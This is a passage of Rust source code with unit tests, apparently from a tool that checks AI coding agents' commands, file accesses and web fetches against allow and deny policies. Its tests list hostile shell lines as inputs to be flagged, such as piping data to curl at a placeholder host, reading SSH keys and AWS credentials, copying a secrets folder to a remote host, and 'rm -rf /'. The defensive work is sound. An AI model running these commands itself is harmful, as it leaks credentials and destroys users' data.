/// were read (a line's `[ab]` is the shell's glob, which the rule `ls [ab]` names).
pub fn denies(pattern: &CommandPattern, words: &[String]) -> bool {
    denies_with(pattern, &[], words)
}

/// [`denies`] of a command run with the `NAME=value` words of `env` set, which git reads
/// settings from ([`super::git_settings`]).
fn denies_with(pattern: &CommandPattern, env: &[String], words: &[String]) -> bool {
    denies_by(&pattern.words, None, env, words)
        || matches!(pattern.parts(), (literal, glob @ Some(_)) if denies_by(literal, glob, env, words))
}

/// [`denies_with`] by `literal` words, then `glob` over the words after them.
fn denies_by(literal: &[String], glob: Option<&str>, env: &[String], words: &[String]) -> bool {
    let Some((first, rest)) = literal.split_first() else {
        return glob.is_some_and(|glob| wildcard::met_in_command(glob, words));
    };
    let name = shell::basename(first);
    let name: &str = &name;
    // Where the words before the wildcard are met first: the words after them there hold
    // those after any later meeting, so the glob is looked for there only.
    let mut met = words.iter().enumerate().filter_map(|(i, w)| {
        if shell::basename(w) != first.as_str() && w != first && !may_be(&shell::basename(w), name)
        {
            return None;
        }
        let after = &words[i + 1..];
        // `env GIT_CONFIG_PARAMETERS=… git push` sets them as the line's prefix does.
        let set: Vec<String> = env
            .iter()
            .chain(words[..i].iter().filter(|w| shell::is_assignment(w)))
            .cloned()
            .collect();
        follows_to_in(name, rest, &set, after).map(|at| &after[at..])
    });
    met.next()
        .is_some_and(|left| glob.is_none_or(|glob| wildcard::met_in(glob, left)))
}

/// Whether the words of a deny pattern past its command (`rest`) are in the words past the
/// command `name` (`after`): the others in order, and the options however they are spelt
/// (see [`options`]): a short option cluster (`-rf`) by the command's short options together
/// (`-r -f`, `-fr`), by their long names and other letters (`rm --recursive --force`, `rm
/// -Rf`, `git push -f` for `--force`, `git branch --delete --force` for `-D`), or by what does
/// as much (`git push --force-with-lease` and `git push origin +main` for `--force`); a long
/// option by a start of its name (`git reset --har`). git's subcommand's options are those
/// after it (`git -C dir branch -d` gives `branch` no `-C`). A word with a value the line
/// does not spell in it (`r$X`, `-rf$(…)`) may be any word its text allows ([`may_be`]): a
/// word of the pattern, and, an option, any option.
/// Returns where in `after` the last of the pattern's words that are no option was met (0 when
/// none is), for a glob to be met past it.
fn follows_to(name: &str, rest: &[String], after: &[String]) -> Option<usize> {
    follows_to_in(name, rest, &[], after)
}

/// [`follows_to`] of a command run with the `NAME=value` words of `env` set: the git settings
/// given there and in git's own options (`git -c remote.origin.mirror=true push`) count as
/// the options they amount to ([`super::git_settings`]).
fn follows_to_in(name: &str, rest: &[String], env: &[String], after: &[String]) -> Option<usize> {
    // Options end at `--` (`rm -r -- -f` removes a file named `-f`).
    let options = &after[..after.iter().position(|w| w == "--").unwrap_or(after.len())];
    let sub = (name == "git")
        .then(|| rest.iter().find(|p| !p.starts_with('-')))
        .flatten();
    let key = options::key(name, sub.map(String::as_str));
    let first_word = sub.and_then(|_| super::git::subcommand_at(options));
    // A word git does not know is run as the subcommand it is close to when the settings of
    // git's own options turn `help.autocorrect` on (`git -c help.autocorrect=immediate psuh
    // -f`); past an option of git's it does not know, every word is read for them. Read once.
    let autocorrects = std::cell::OnceCell::new();
    let is_sub = |w: &String, sub: &str| {
        w == sub
            || may_be(w, sub)
            || (super::git_autocorrect::may_run_as(w, sub)
                && *autocorrects.get_or_init(|| {
                    let own = &options[..first_word.unwrap_or(options.len())];
                    super::git_settings::autocorrects(own, env)
                }))
    };
    // git's subcommand is the first word past its own options (`git stash push -f` is no
    // push); past an option of git's it does not know, any later word may be.
    let at_sub = match sub {
        Some(sub) => match first_word {
            Some(at) if is_sub(&options[at], sub) => Some(at),
            Some(_) => return None,
            None => options.iter().position(|w| is_sub(w, sub)),
        },
        None => None,
    };
    let past_sub = at_sub.map_or(0, |at| at + 1);
    let own = &options[past_sub..];
    let operands = options::operands(&key, &after[past_sub..])
        .map(|w| options::letters_of_operand(&key, w).to_owned());
    let settings = sub.map(|sub| {
        let git_own = &options[..past_sub.saturating_sub(1)];
        super::git_settings::letters(sub, git_own, env, &after[past_sub..])
    });
    // A `git clean` dry run removes nothing, its `-f` given or not (`git clean -fn`).
    let unforced =
        sub.is_some_and(|sub| super::git_settings::removes_nothing(sub, &after[past_sub..]));
    let mut have: String = own
        .iter()
        .filter_map(|w| options::letters_given(&key, w))
        .chain(operands)
        .chain(settings)
        .collect();
    if unforced {
        have.retain(|c| c != 'f');
    }
    let any_option = options
        .iter()
        .any(|w| w.starts_with('-') && pieces_around_values(w).is_some());
    let mut at = 0;
    let all = rest.iter().all(|p| {
        if let Some(need) = options::letters_named(&key, p) {
            any_option || need.chars().all(|c| have.contains(c))
        } else if p.starts_with('-') {
            any_option || options.iter().any(|w| options::is_option(&key, w, p))
        } else if let Some(found) = at_sub.filter(|_| sub.is_some_and(|s| std::ptr::eq(s, p))) {
            // git's subcommand, met where it is, though spelt as git corrects it (`psuh`).
            at = at.max(found + 1);
            true
        } else {
            match after[at..].iter().position(|w| w == p || may_be(w, p)) {
                Some(found) => {
                    at += found + 1;
                    true
                }
                None => false,
            }
        }
    });
    all.then_some(at)
}

/// Whether a word with values the line does not spell in it (`r$X`, `cu$(…)rl`, `-rf${X}`) may
/// be `text`, each value taken for any text, as an unset variable or a substitution that prints
/// nothing or anything is. A word that is such a value alone (`$CMD`) may be any command: it is
/// left to the list of what a policy cannot stop, or every `$(which python)` would be every
/// denied command.
fn may_be(word: &str, text: &str) -> bool {
    let Some(pieces) = pieces_around_values(word) else {
        return false;
    };
    if pieces.iter().all(|p| p.is_empty()) {
        return false;
    }
    let (Some(head), Some(tail)) = (pieces.first(), pieces.last()) else {
        return false;
    };
    let Some(mut rest) = text.strip_prefix(head) else {
        return false;
    };
    for piece in &pieces[1..pieces.len() - 1] {
        let Some(at) = rest.find(piece) else {
            return false;
        };
        rest = &rest[at + piece.len()..];
    }
    pieces.len() > 1 && rest.ends_with(tail)
}

/// The text of a word around the values in it that the line does not spell (a substitution,
/// `$(…)`, a variable, `$X`, `${X}`, `$1`): `-rf$(…)` is `["-rf", ""]`. `None` when it holds
/// none.
fn pieces_around_values(word: &str) -> Option<Vec<&str>> {
    if !word.contains('$') {
        return None;
    }
    let mut pieces = Vec::new();
    let mut start = 0;
    let mut i = 0;
    let bytes = word.as_bytes();
    while i < bytes.len() {
        if bytes[i] != b'$' {
            i += 1;
            continue;
        }
        let rest = &word[i + 1..];
        let len = if rest.starts_with("(…)") {
            "(…)".len()
        } else if rest.starts_with('{') {
            rest.find('}').map_or(rest.len(), |end| end + 1)
        } else if rest.starts_with(|c: char| "@*#?$!-0123456789".contains(c)) {
            1
        } else {
            rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(rest.len())
        };
        if len == 0 {
            i += 1;
            continue;
        }
        pieces.push(&word[start..i]);
        i += 1 + len;
        start = i;
    }
    if pieces.is_empty() {
        return None;
    }
    pieces.push(&word[start..]);
    Some(pieces)
}

/// [`denies`] for a command PowerShell runs: names are met as PowerShell takes them
/// ([`super::pwsh_names`]): a command in any case and by its aliases (`ri`, `del`, `rm` for a
/// deny of `Remove-Item`; `iwr`, `curl` for `Invoke-WebRequest`, and the other way round). A
/// cmdlet's parameters are met in any case, by their start and with a value glued on (`-rec`,
/// `-Recurse:$true` for `-Recurse`), its other words in any case; a program's words (`git
/// push`, past `GIT` or `git.exe`) as the program takes them ([`follows_to`]): git's `Push` is no
/// `push`, and `git log --grep Push` no push.
/// A pattern's glob ([`denies`]) is met in any case too.
pub fn denies_in_powershell(pattern: &CommandPattern, words: &[String]) -> bool {
    denies_in_powershell_by(&pattern.words, None, words)
        || matches!(pattern.parts(),
            (literal, glob @ Some(_)) if denies_in_powershell_by(literal, glob, words))
}

/// [`denies_in_powershell`] by `literal` words, then `glob` over the words after them.
fn denies_in_powershell_by(literal: &[String], glob: Option<&str>, words: &[String]) -> bool {
    let lower =
        |words: &[String]| -> Vec<String> { words.iter().map(|w| w.to_lowercase()).collect() };
    let Some((first, rest)) = literal.split_first() else {
        return glob
            .is_some_and(|glob| wildcard::met_in_command(&glob.to_lowercase(), &lower(words)));
    };
    let name = pwsh_names::command(first);
    let cmdlet = pwsh_names::is_cmdlet(&name);
    let mut met = words.iter().enumerate().filter_map(|(i, w)| {
        if pwsh_names::command(w) != name {
            return None;
        }
        let after = &words[i + 1..];
        if !cmdlet {
            return follows_to(&name, rest, after).map(|at| &after[at..]);
        }
        // Parameters end at `--`, as in Bash.
        let options = &after[..after.iter().position(|w| w == "--").unwrap_or(after.len())];
        let mut at = 0;
        rest.iter()
            .all(|p| {
                if let Some(wanted) = pwsh_names::parameter(p) {
                    options
                        .iter()
                        .filter_map(|w| pwsh_names::parameter(w))
                        .any(|given| pwsh_names::parameter_is(&given, &wanted))
                } else {
                    match after[at..].iter().position(|w| w.eq_ignore_ascii_case(p)) {
                        Some(found) => {
                            at += found + 1;
                            true
                        }
                        None => false,
                    }
                }
            })
            .then_some(&after[at..])
    });
    met.next().is_some_and(|left| {
        glob.is_none_or(|glob| wildcard::met_in(&glob.to_lowercase(), &lower(left)))
    })
}

/// Whether an allow pattern starts the command that runs (past `env`, `timeout` and the like):
/// `cargo test` allows `cargo test --lib`, not `cargo publish`. A pattern's words from its
/// first wildcard on are a glob that must take every word left ([`wildcard::takes`]): `mix *`
/// allows `mix phx.server`.
pub fn allows(pattern: &CommandPattern, words: &[String]) -> bool {
    let words = shell::effective(words);
    allows_by(&pattern.words, None, words)
        || matches!(pattern.parts(), (literal, glob @ Some(_)) if allows_by(literal, glob, words))
}

/// [`allows`] by `literal` words, then `glob` over the words after them.
fn allows_by(literal: &[String], glob: Option<&str>, words: &[String]) -> bool {
    if words.len() < literal.len() {
        return false;
    }
    literal
        .iter()
        .zip(words)
        .enumerate()
        .all(|(i, (p, w))| p == w || (i == 0 && shell::basename(w) == p.as_str()))
        && glob
            .is_none_or(|glob| wildcard::takes(glob, &words[literal.len()..], literal.is_empty()))
}

fn judge_host(policy: &Policy, access: Access, host: &str) -> Judgement {
    let host = shell::normal_host(host);
    let host = host.as_str();
    let covers = |pattern: &String| {
        host == pattern
            || host
                .strip_suffix(pattern.as_str())
                .is_some_and(|sub| sub.ends_with('.'))
    };
    if let Some(p) = policy.network.deny.iter().find(|p| covers(p)) {
        let p = p.clone();
        return judgement(access, Status::Violation, Some("network.deny"), Some(&p));
    }
    if let Some(p) = policy.network.allow.iter().find(|p| covers(p)) {
        let p = p.clone();
        return judgement(access, Status::Allowed, Some("network.allow"), Some(&p));
    }
    if policy.network.deny_all {
        judgement(access, Status::Violation, Some("network.deny_all"), None)
    } else {
        judgement(access, Status::NoPolicy, None, None)
    }
}

/// A tool judged by its name, and an MCP tool also by its names in Claude Code's spelling
/// (`mcp__<server>__<tool>`), so that a pattern covers it whichever agent calls it.
fn judge_tool(policy: &Policy, call: &ToolCall<'_>) -> Option<Judgement> {
    let tool = call.tool;
    let access = || Access::Tool(tool.to_owned());
    let names = tools::mcp_names(call.agent, tool);
    let hit =
        |g: &&Glob| g.matches(Some(tool), tool) || names.iter().any(|n| g.matches(Some(n), n));
    if let Some(g) = policy.tools_deny.iter().find(hit) {
        return Some(judgement(
            access(),
            Status::Violation,
            Some("tools.deny"),
            Some(g.as_str()),
        ));
    }
    if let Some(g) = policy.tools_allow.iter().find(hit) {
        return Some(judgement(
            access(),
            Status::Allowed,
            Some("tools.allow"),
            Some(g.as_str()),
        ));
    }
    (!policy.tools_allow.is_empty())
        .then(|| judgement(access(), Status::Violation, Some("tools.allow"), None))
}

/// `path` made absolute from `cwd` and cleaned of `.` and `..`; a path that starts with `~` or
/// a variable is left as it is, and one still relative (no `cwd`) is cleaned as far as it can
/// be (`secrets/../secrets/key.pem` is `secrets/key.pem`, `../x` stays).
pub fn absolute(path: &str, cwd: Option<&str>) -> String {
    let joined = match cwd {
        Some(cwd) if !path.starts_with('/') && !path.starts_with('~') && !path.starts_with('$') => {
            format!("{}/{path}", cwd.trim_end_matches('/'))
        }
        _ => path.to_owned(),
    };
    if joined.starts_with(['~', '$']) {
        return joined;
    }
    if !joined.starts_with('/') {
        if !joined.split('/').any(|p| matches!(p, "." | "..")) {
            return joined;
        }
        let mut parts: Vec<&str> = Vec::new();
        for part in joined.split('/') {
            match part {
                "" | "." => {}
                ".." if parts.last().is_some_and(|p| *p != "..") => {
                    parts.pop();
                }
                p => parts.push(p),
            }
        }
        return if parts.is_empty() {
            ".".to_owned()
        } else {
            parts.join("/")
        };
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            p => parts.push(p),
        }
    }
    format!("/{}", parts.join("/"))
}

/// A path (made absolute where it could be) as policy globs see it: below the first root that
/// holds it; a path still relative (no working folder known) is taken as below the project,
/// but for one that climbs out of it ([`climbs_out`]), which is below no root.
pub fn relative(absolute: &str, place: &Place) -> Option<String> {
    // `~/proj/secrets` is the project's `secrets` when the project is `~/proj`.
    let home = place.home.as_deref().and_then(|home| {
        absolute
            .strip_prefix("~/")
            .map(|rest| format!("{}/{rest}", home.trim_end_matches('/')))
    });
    let absolute = home.as_deref().unwrap_or(absolute);
    place
        .roots
        .iter()
        .find_map(|root| below(absolute, root))
        .or_else(|| {
            (!absolute.starts_with(['/', '~', '$']) && !climbs_out(absolute)).then(|| {
                let path = absolute.trim_start_matches("./");
                if path == "." { "" } else { path }.to_owned()
            })
        })
}

/// Whether a path still relative (no working folder known) climbs out of the folder it is from
/// (`../build/out.txt`): where it lands depends on that folder, so it is in no project and no
/// glob of one covers it (`../**` would take `../../../../root/.bashrc` too).
pub fn climbs_out(path: &str) -> bool {
    !path.starts_with(['/', '~', '$']) && path.split('/').any(|part| part == "..")
}

/// `path` below `root`, if it is there (`/p/src/a` below `/p` is `src/a`).
pub fn below(path: &str, root: &str) -> Option<String> {
    let root = root.trim_end_matches('/');
    let rest = path.strip_prefix(root)?;
    if rest.is_empty() {
        return Some(String::new());
    }
    rest.strip_prefix('/').map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_folded_path_keeps_its_variables_names() {
        assert_eq!(folded_path("SECRETS/Key.txt"), "secrets/key.txt");
        assert_eq!(folded_path("$HOME/Notes"), "$HOME/notes");
        assert_eq!(folded_path("${HOME}/Notes/$X_Y/Z"), "${HOME}/notes/$X_Y/z");
        assert_eq!(folded_path("/Users/Zoe/ÄPP"), "/users/zoe/äpp");
        assert_eq!(folded_path("ſecrets/\u{212A}ey"), "secrets/key");
        assert_eq!(
            folded_path("Cafe\u{301}/E\u{301}t\u{301}"),
            "café/ét\u{301}"
        );
    }
    use crate::model::tools::{self, Agent};

    #[test]
    fn case_folding_keeps_the_letter_of_a_short_option() {
        assert_eq!(
            case_folded("git -C Secrets -cA=B LOG --Work-Tree=X a-B"),
            "git -C secrets -ca=b log --work-tree=x a-b"
        );
        assert_eq!(
            case_folded("cmake -SSRC \"-BOut\""),
            "cmake -Ssrc \"-Bout\""
        );
        assert_eq!(
            case_folded("*** Begin Patch\n*** Add File: SECRETS/New.txt\n+X\n*** End Patch"),
            "*** begin patch\n*** Add File: secrets/new.txt\n+x\n*** end patch"
        );
    }

    fn call<'a>(tool: &'a str, args: &'a Value) -> ToolCall<'a> {
        ToolCall {
            agent: Agent::ClaudeCode,
            tool,
            kind: tools::classify(Agent::ClaudeCode, tool),
            spec: tools::spec_of(Agent::ClaudeCode, tool),
            arguments: args,
            tool_use_id: None,
            cwd: None,
        }
    }

    fn place() -> Place {
        Place {
            cwd: Some("/p".into()),
            roots: vec!["/p".into()],
            launch: Some("/p".into()),
            home: None,
            probe: None,
            read: None,
        }
    }

    fn policy() -> Policy {
        super::super::parse_for_test(
            r#"{
              "files": {
                "read": { "allow": ["src/**", "tests/**", "config/.env.example"], "deny": [".env"] },
                "write": { "allow": ["src/**"], "deny": [".github/**"] }
              },
              "commands": { "allow": ["pytest", "uv run", "cat", "git status", "echo", "ls"], "deny": ["curl", "wget", "rm -rf"] },
              "network": { "deny_all": true, "allow": ["localhost", "pypi.org"] },
              "tools": { "deny": ["mcp__github__delete_*"] }
            }"#,
        )
    }

    fn status(tool: &str, args: &Value) -> (Status, Option<&'static str>) {
        let v = check(&policy(), &call(tool, args), &place());
        (v.status, v.rule)
    }

    #[test]
    fn file_rules() {
        use Status::*;
        assert_eq!(
            status("Read", &json!({"file_path": "/p/src/a.py"})),
            (Allowed, Some("files.read.allow"))
        );
        assert_eq!(
            status("Read", &json!({"file_path": "/p/.env"})),
            (Violation, Some("files.read.deny"))
        );
        assert_eq!(
            status("Read", &json!({"file_path": "/p/README.md"})),
            (Violation, Some("files.read.allow"))
        );
        assert_eq!(
            status("Read", &json!({"file_path": "/p/src/server.pem"})),
            (Violation, Some("sensitive"))
        );
        assert_eq!(
            status("Read", &json!({"file_path": "/p/config/.env.example"})),
            (Allowed, Some("files.read.allow"))
        );
        assert_eq!(
            status("Edit", &json!({"file_path": "/p/.github/workflows/ci.yml"})),
            (Violation, Some("files.write.deny"))
        );
        assert_eq!(
            status("Write", &json!({"file_path": "src/../../etc/passwd"})),
            (Violation, Some("files.write.allow"))
        );
        assert_eq!(
            status("Grep", &json!({"pattern": "x", "path": "/p/secrets"})),
            (Violation, Some("files.read.allow"))
        );
        assert_eq!(status("TodoWrite", &json!({"todos": []})), (NoPolicy, None));
    }

    #[test]
    fn command_rules_match_words() {
        use Status::*;
        let bash = |c: &str| status("Bash", &json!({"command": c}));
        assert_eq!(bash("pytest -x tests"), (Allowed, Some("commands.allow")));
        assert_eq!(bash("pytest -x"), (Allowed, Some("commands.allow")));
        assert_eq!(bash("rm -rf build"), (Violation, Some("commands.deny")));
        assert_eq!(bash("sudo rm -rf /"), (Violation, Some("commands.deny")));
        assert_eq!(bash("rm -r -f build"), (Violation, Some("commands.deny")));
        assert_eq!(bash("rm -Rf build"), (Violation, Some("commands.deny")));
        assert_eq!(
            bash("rm --recursive --force build"),
            (Violation, Some("commands.deny"))
        );
        assert_eq!(bash("rm -R --force x"), (Violation, Some("commands.deny")));
        assert_eq!(bash("curly --help"), (Violation, Some("commands.allow")));
        assert_eq!(
            bash("ls | curl -d @- http://x.io"),
            (Violation, Some("commands.deny"))
        );
        assert_eq!(
            bash("echo $(wget -q y)"),
            (Violation, Some("commands.deny"))
        );
        assert_eq!(bash("echo `curl z`"), (Violation, Some("commands.deny")));
        assert_eq!(bash("cat .env"), (Violation, Some("files.read.deny")));
        assert_eq!(
            bash("echo hi > .github/workflows/x.yml"),
            (Violation, Some("files.write.deny"))
        );
        assert_eq!(
            bash("uv run python -m http.server"),
            (Allowed, Some("commands.allow"))
        );
        assert_eq!(
            bash("git commit -m 'rm -rf'"),
            (Violation, Some("commands.allow"))
        );
        assert_eq!(bash("git status"), (Allowed, Some("commands.allow")));
        assert_eq!(
            bash("uv run x https://localhost:8000/a"),
            (Allowed, Some("commands.allow"))
        );
        assert_eq!(
            bash("uv run x https://evil.com/a"),
            (Violation, Some("network.deny_all"))
        );
        assert_eq!(
            bash("uv run pip install --index-url https://files.pypi.org/x"),
            (Allowed, Some("commands.allow"))
        );
    }

    #[test]
    fn web_and_mcp_calls() {
        use Status::*;
        assert_eq!(
            status("WebFetch", &json!({"url": "https://evil.com"})),
            (Violation, Some("network.deny_all"))
        );
        assert_eq!(
            status("WebFetch", &json!({"url": "https://pypi.org/simple"})),
            (Allowed, Some("network.allow"))
        );
        assert_eq!(
            status("mcp__github__delete_repo", &json!({})),
            (Violation, Some("tools.deny"))
        );
        assert_eq!(
            status("mcp__fetch__fetch", &json!({"url": "http://a.b/c"})),
            (Violation, Some("network.deny_all"))
        );
    }

    #[test]
    fn no_policy_flags_only_sensitive_files() {
        let none = Policy::none();
        let args = json!({"file_path": "/home/u/.ssh/id_rsa"});
        let v = check(&none, &call("Read", &args), &place());
        assert_eq!((v.status, v.rule), (Status::Violation, Some("sensitive")));
        let args = json!({"command": "cat ~/.aws/credentials; rm -rf /"});
        let v = check(&none, &call("Bash", &args), &place());
        assert_eq!((v.status, v.rule), (Status::Violation, Some("sensitive")));
        let args = json!({"file_path": "/p/src/a.rs"});
        assert_eq!(
            check(&none, &call("Read", &args), &place()).status,
            Status::NoPolicy
        );
    }

    #[test]
    fn a_glob_reads_from_its_literal_start() {
        assert_eq!(literal_start("secrets/**"), "secrets");
        assert_eq!(literal_start(".env"), ".env");
        assert_eq!(literal_start("a/b/*.rs"), "a/b");
        assert_eq!(literal_start("**/.env"), "");
        let grep = |glob: &str| status("Grep", &json!({"pattern": "x", "glob": glob}));
        assert_eq!(grep("*.env"), (Status::Violation, Some("files.read.deny")));
        assert_eq!(grep("src/**"), (Status::Allowed, Some("files.read.allow")));
    }

    #[test]
    fn a_grep_glob_stands_for_each_alternative_of_its_braces() {
        let alternatives = |glob: &str| ripgrep_alternatives(glob);
        assert_eq!(alternatives("*.{rs,md}").unwrap(), ["*.rs", "*.md"]);
        assert_eq!(alternatives("{.env}").unwrap(), [".env"]);
        assert_eq!(alternatives("{a,{b,c}}/x").unwrap(), ["a/x", "b/x", "c/x"]);
        assert_eq!(alternatives("secrets\\/**").unwrap(), ["secrets/**"]);
        assert_eq!(alternatives("\\{a,b\\}").unwrap(), ["{a,b}"]);
        assert!(alternatives("{a,b").is_none());
        assert!(alternatives("a}").is_none());
        let many = "{a,b}".repeat(7);
        assert!(alternatives(&many).is_none(), "2^7 alternatives");
        assert_eq!(alternatives(&"{a,b}".repeat(6)).unwrap().len(), 64);
    }

    /// How `command` stands under a policy given as JSON text (the folder is `/p`).
    fn bash_under(policy: &str, command: &str) -> (Status, Option<&'static str>) {
        let policy = super::super::parse_for_test(policy);
        let args = json!({ "command": command });
        let v = check(&policy, &call("Bash", &args), &place());
        (v.status, v.rule)
    }

    const SECRETS: &str = r#"{"files": {"read": {"deny": ["secrets/**", ".env"]},
                                        "write": {"deny": ["secrets/**", ".env"]}}}"#;

    const SRC: &str = r#"{"files": {"read": {"allow": ["src/**", "tests/**"]}},
                          "commands": {"allow": ["cd", "cat", "pushd", "popd"]}}"#;

    #[test]
    fn a_cd_moves_the_paths_after_it() {
        use Status::*;
        let deny = |c: &str| bash_under(SECRETS, c);
        assert_eq!(
            deny("cd secrets && cat key.txt"),
            (Violation, Some("files.read.deny"))
        );
        assert_eq!(
            deny("cd secrets; cat key.txt"),
            (Violation, Some("files.read.deny"))
        );
        assert_eq!(
            deny("cd /p/secrets && head -n 3 key.txt"),
            (Violation, Some("files.read.deny"))
        );
        assert_eq!(
            deny("cd secrets && echo x > new.txt"),
            (Violation, Some("files.write.deny"))
        );
        assert_eq!(
            deny("cd src/.. && cd secrets && cat key.txt"),
            (Violation, Some("files.read.deny"))
        );
        // A cd that may have failed: the line went on where it was.
        assert_eq!(
            deny("cd nowhere; cat secrets/key.txt"),
            (Violation, Some("files.read.deny"))
        );
        assert_eq!(
            deny("cd nowhere || cat secrets/key.txt"),
            (Violation, Some("files.read.deny"))
        );
        // Not in the folder the cd left: a subshell, a pipeline, the background.
        assert_eq!(deny("(cd secrets && ls) && cat key.txt").0, NoPolicy);
        assert_eq!(deny("cd secrets | cat key.txt").0, NoPolicy);
        assert_eq!(deny("cd secrets & cat key.txt").0, NoPolicy);
        assert_eq!(deny("cd src && cat key.txt").0, NoPolicy);
        assert_eq!(deny("cd /elsewhere && cat secrets/key.txt").0, NoPolicy);
    }

    #[test]
    fn a_cd_into_an_allowed_folder_is_allowed() {
        use Status::*;
        let bash = |c: &str| bash_under(SRC, c);
        assert_eq!(bash("cd src && cat main.py").0, Allowed);
        assert_eq!(
            bash("cd /p/src && cat main.py && cat ../tests/t.py").0,
            Allowed
        );
        // Where the line started, `main.py` is outside `src/**`.
        assert_eq!(bash("cat main.py"), (Violation, Some("files.read.allow")));
        // The cd may have failed, and the line gone on where it was.
        assert_eq!(
            bash("cd src; cat main.py"),
            (Violation, Some("files.read.allow"))
        );
        assert_eq!(
            bash("(cd src && cat main.py) && cat main.py"),
            (Violation, Some("files.read.allow"))
        );
    }

    #[test]
    fn a_cd_home_or_somewhere_unknown() {
        use Status::*;
        let none = r"{}";
        assert_eq!(
            bash_under(none, "cd && cat .ssh/id_rsa"),
            (Violation, Some("sensitive"))
        );
        assert_eq!(
            bash_under(none, "cd ~/.aws && cat credentials"),
            (Violation, Some("sensitive"))
        );
        assert_eq!(bash_under(none, "cd && cat notes.txt").0, NoPolicy);
        // An unknown place: no allow list can say it is in it.
        let bash = |c: &str| bash_under(SRC, c);
        assert_eq!(
            bash("cd \"$X\" && cat src/a.py"),
            (Violation, Some("files.read.allow"))
        );
        assert_eq!(
            bash("cd - && cat src/a.py"),
            (Violation, Some("files.read.allow"))
        );
        // ... and a deny still sees the file: the place may be this one, or the project.
        for line in [
            "cd \"$X\" && cat secrets/key.txt",
            "cd /tmp && cd - && cat secrets/key.txt",
            "pushd /tmp && popd && cat secrets/key.txt",
            "cd $(git rev-parse --show-toplevel) && cat secrets/key.txt",
            "cd sub && cd \"$ROOT\" && cat secrets/key.txt",
            "cd() { :; }; cd /tmp && cat secrets/key.txt",
        ] {
            assert_eq!(
                bash_under(SECRETS, line),
                (Violation, Some("files.read.deny")),
                "{line}"
            );
        }
    }

    #[test]
    fn a_glob_is_judged_by_the_files_it_could_take() {
        use Status::*;
        let deny = |c: &str| bash_under(SECRETS, c);
        for (line, rule) in [
            ("cat .e*", "files.read.deny"),
            ("cat ./.e?v", "files.read.deny"),
            ("cat config/.[e]nv", "files.read.deny"),
            ("cat secrets/*.txt", "files.read.deny"),
            ("cat sec*/key.txt", "files.read.deny"),
            ("cat */key.txt", "files.read.deny"),
            ("cat .{env,x}", "files.read.deny"),
            ("grep -r TOKEN .e*", "files.read.deny"),
            ("echo x > .e*", "files.write.deny"),
            ("cp a.txt sec*/", "files.write.deny"),
            ("cd sec* && cat key.txt", "files.read.deny"),
            ("shopt -s dotglob; cat *", "files.read.deny"),
        ] {
            assert_eq!(deny(line), (Violation, Some(rule)), "{line}");
        }
        // Quoted: the file named so. `.e*x` takes no `.env`. `*` takes no dotfile.
        for line in [
            "cat '.e*'",
            "cat \".e*\"",
            "cat \\.e\\*",
            "cat src/.e*x",
            "wc -l *.md",
        ] {
            assert_eq!(deny(line).0, NoPolicy, "{line}");
        }
        let env = r#"{"files": {"read": {"deny": [".env"]}}}"#;
        assert_eq!(bash_under(env, "cat * */*").0, NoPolicy);
        assert_eq!(
            bash_under(env, "cat .*"),
            (Violation, Some("files.read.deny"))
        );
        // `*` takes the folder `secrets`, which the deny covers.
        assert_eq!(deny("cat *"), (Violation, Some("files.read.deny")));
        assert_eq!(deny("echo '*' .e*").0, NoPolicy, "echo reads no file");
        // Allowed by the text: every file `src/*.py` takes is in `src/**`.
        let bash = |c: &str| bash_under(SRC, c);
        assert_eq!(bash("cat src/*.py").0, Allowed);
        assert_eq!(bash("cat *.py"), (Violation, Some("files.read.allow")));
    }

    #[test]
    fn a_glob_that_names_a_sensitive_file_is_flagged() {
        use Status::*;
        let none = r"{}";
        for line in [
            "cat .e*",
            "cp ~/.ssh/id_* /tmp",
            "cat ~/.s*/id_rsa",
            "cat ~/.aws/cred*",
            "cat certs/*.p*",
            "cat id_*",
            "head .env.*",
        ] {
            assert_eq!(
                bash_under(none, line),
                (Violation, Some("sensitive")),
                "{line}"
            );
        }
        // A wildcard alone names no file; two wildcards meeting say nothing.
        for line in [
            "wc -l *",
            "rm -rf build/*",
            "grep -rn TODO * src/*.rs",
            "cat *.txt",
            "sed -i s/a/b/ src/*",
        ] {
            assert_eq!(bash_under(none, line).0, NoPolicy, "{line}");
        }
        // An allow that names the files lets them be read.
        let named = r#"{"files": {"read": {"allow": ["config/.env.*"]}},
                        "commands": {"allow": ["cat"]}}"#;
        assert_eq!(bash_under(named, "cat config/.env.*").0, Allowed);
    }

    /// A deny that names files below a folder (`secrets/key.pem`), so that the folder's own
    /// path is matched by no pattern.
    const KEY: &str = r#"{"files": {"read": {"deny": ["secrets/key.pem", ".env"]},
                                    "write": {"deny": ["secrets/key.pem", ".env"]}}}"#;

    #[test]
    fn a_folder_gone_through_whole_reads_what_is_in_it() {
        use Status::*;
        for policy in [SECRETS, KEY] {
            for line in [
                "cp -r secrets /tmp/x",
                "cp -a secrets/ /tmp/x",
                "cp --recursive ./secrets /tmp/x",
                "tar czf out.tgz secrets",
                "tar -czf out.tgz secrets",
                "tar --create --file=out.tgz secrets",
                "tar czf out.tgz -C secrets .",
                "zip -r o.zip secrets",
                "7z a o.7z secrets",
                "rsync -a secrets/ dst",
                "rsync -az secrets host:/backup",
                "scp -r secrets host:",
                "grep -r KEY secrets",
                "grep -rn KEY secrets/",
                "grep -R KEY .",
                "egrep --recursive KEY .",
                "rg KEY secrets",
                "rg KEY .",
                "ag KEY secrets",
                "find secrets -type f -exec cat {} +",
                "find . -name '*.pem' -exec cat {} \\;",
                "diff -r secrets /tmp/old",
                "cat secrets/../secrets/key.pem",
                "cat src/../secrets/key.pem",
                "cd src && grep -r KEY ..",
                "grep -r KEY /",
            ] {
                assert_eq!(
                    bash_under(policy, line),
                    (Violation, Some("files.read.deny")),
                    "{line} under {policy}"
                );
            }
            for line in [
                "rm -rf secrets",
                "rm -r secrets/",
                "mv secrets /tmp/x",
                "cp -r src secrets/",
                "chmod -R 777 secrets",
                "find secrets -delete",
            ] {
                assert_eq!(
                    bash_under(policy, line),
                    (Violation, Some("files.write.deny")),
                    "{line} under {policy}"
                );
            }
            // No content read, or nothing of the denied folder.
            for line in [
                "ls secrets",
                "ls -R secrets",
                "du -sh secrets",
                "find secrets -name '*.pem'",
                "cp -r src dst",
                "rm -rf build/*",
                "grep -r KEY src",
                "rg KEY src",
                "tar xzf out.tgz",
                "tar tzf out.tgz",
